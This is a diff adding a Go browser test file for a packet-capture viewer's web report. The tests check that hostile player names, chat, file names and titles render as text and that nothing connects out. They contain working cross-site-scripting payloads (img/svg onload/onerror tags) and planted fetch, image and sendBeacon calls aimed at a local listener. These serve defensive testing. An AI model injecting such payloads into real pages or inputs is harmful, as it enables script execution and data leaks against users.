@@ -1,0 +1,175 @@
+package browser
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/gamedissect/gamedissect/internal/view/web"
+)
+
+// An ear counts who connects to it.
+type ear struct {
+	port  int
+	heard atomic.Int64
+}
+
+func listen(t *testing.T) *ear {
+	t.Helper()
+	l, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := &ear{port: l.Addr().(*net.TCPAddr).Port}
+	t.Cleanup(func() { l.Close() })
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			e.heard.Add(1)
+			c.Close()
+		}
+	}()
+	return e
+}
+
+// hostileCapture is a game of a player whose name is an element that a page would fetch, and of chat that would run.
+func (e *ear) hostileCapture(t *testing.T) (path, name, chat string) {
+	t.Helper()
+	data, err := os.ReadFile(small)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fill := func(text string, size int) []byte {
+		if len(text) > size {
+			t.Fatalf("%q is longer than %d bytes", text, size)
+		}
+		return append([]byte(text), make([]byte, size-len(text))...)
+	}
+	name = fmt.Sprintf("<img src=//127.0.0.1:%d/>", e.port)
+	chat = fmt.Sprintf("<svg onload=import('//127.0.0.1:%d/')>", e.port)
+	before := "Variable Modification Notice by root of set _noSmallPackets 1"
+	changed := bytes.ReplaceAll(data, fill("erin", 32), fill(name, 32))
+	changed = bytes.ReplaceAll(changed, []byte(before), fill(chat, len(before)))
+	if bytes.Equal(changed, data) {
+		t.Fatal("nothing was replaced")
+	}
+	path = filepath.Join(t.TempDir(), "game.pcap")
+	if err := os.WriteFile(path, changed, 0o666); err != nil {
+		t.Fatal(err)
+	}
+	if told := says(t, "-r", path, "-T", "line"); !strings.Contains(told, name) || !strings.Contains(told, chat) {
+		t.Fatalf("the program does not tell %q and %q", name, chat)
+	}
+	return path, name, chat
+}
+
+// hostileFile is the name of the capture in the page.
+const hostileFile = "<img src=x onerror=alert(1)>.pcap"
+
+// whole goes through all of a page.
+func (b *tab) whole(t *testing.T) {
+	t.Helper()
+	b.read()
+	for i := range 6 {
+		b.press(fmt.Sprint(i + 1))
+		time.Sleep(300 * time.Millisecond) // whatever it would fetch
+	}
+	b.press("1")
+	b.click(".list .window .row")
+	b.until("the fields", `document.querySelector(".detail [role=treeitem]")`)
+	time.Sleep(300 * time.Millisecond)
+}
+
+// TestNothingLeaves shows a hostile capture while somebody listens, who hears nothing, and whose names are texts.
+func TestNothingLeaves(t *testing.T) {
+	needBrowser(t)
+	e := listen(t)
+	path, name, chat := e.hostileCapture(t)
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	note := web.Note{Row: 1, Text: fmt.Sprintf("<img src=http://127.0.0.1:%d/note>", e.port)}
+	for kind, url := range map[string]string{
+		"report": write(t, &web.Page{Title: "</title><img src=x>", Capture: &web.Capture{Name: hostileFile, Data: bytes.NewReader(data)},
+			Setup: web.Setup{Notes: []web.Note{note}}}),
+		"empty":  write(t, &web.Page{Title: "gamedissect"}),
+		"served": serve(t, path),
+	} {
+		t.Run(kind, func(t *testing.T) {
+			b := open(t, url)
+			if kind == "empty" {
+				b.choose(path)
+			}
+			b.whole(t)
+			b.press("/")
+			b.sift("bzflag24.add_player || bzflag24.message")
+			b.until("the hostile name", listed+`.some((row) => row.querySelector(".summary").textContent.includes(%s))`, name)
+			b.until("the hostile chat", listed+`.some((row) => row.querySelector(".summary").textContent.includes(%s))`, chat)
+			if n := js[int](b, `document.querySelectorAll("img, iframe, object, embed, svg[onload]").length`); n > 0 {
+				t.Errorf("%d elements came from the capture", n)
+			}
+			if n := e.heard.Load(); n > 0 {
+				t.Errorf("%d connections were heard", n)
+			}
+		})
+	}
+}
+
+// TestTheEarHears shows that the test above can fail: a page that was tampered with is heard without its policy, and not
+// with it.
+func TestTheEarHears(t *testing.T) {
+	e := listen(t)
+	page := func(change func(string) string) string {
+		url := report(t, small)
+		name := strings.TrimPrefix(url, "file://")
+		data, err := os.ReadFile(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		changed := change(string(data))
+		if changed == string(data) {
+			t.Fatal("the page has not what was to be changed")
+		}
+		if err := os.WriteFile(name, []byte(changed), 0o666); err != nil {
+			t.Fatal(err)
+		}
+		return url
+	}
+	const first = `async function start() {`
+	planted := fmt.Sprintf("%s fetch('http://127.0.0.1:%d/').catch(() => 0); new Image().src = 'http://127.0.0.1:%d/i'; "+
+		"navigator.sendBeacon('http://127.0.0.1:%d/b');", first, e.port, e.port, e.port)
+	plant := func(s string) string { return strings.Replace(s, first, planted, 1) }
+
+	b := blank(t)
+	b.expect("Content Security Policy") // it refuses each, and says so
+	b.expect("violates the following")
+	b.goTo(page(plant))
+	b.read()
+	time.Sleep(time.Second)
+	if n := e.heard.Load(); n > 0 {
+		t.Errorf("with its policy: %d connections were heard", n)
+	}
+	b = blank(t)
+	b.expect("127.0.0.1") // nobody answers what is fetched
+	b.expect("net::ERR")
+	b.expect("CORS")
+	policy := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy"[^>]*>`)
+	b.goTo(page(func(s string) string { return policy.ReplaceAllString(plant(s), "") }))
+	b.read()
+	for end := time.Now().Add(patience); e.heard.Load() == 0; time.Sleep(20 * time.Millisecond) {
+		if time.Now().After(end) {
+			t.Fatal("without its policy: nothing was heard")
+		}
+	}
+}
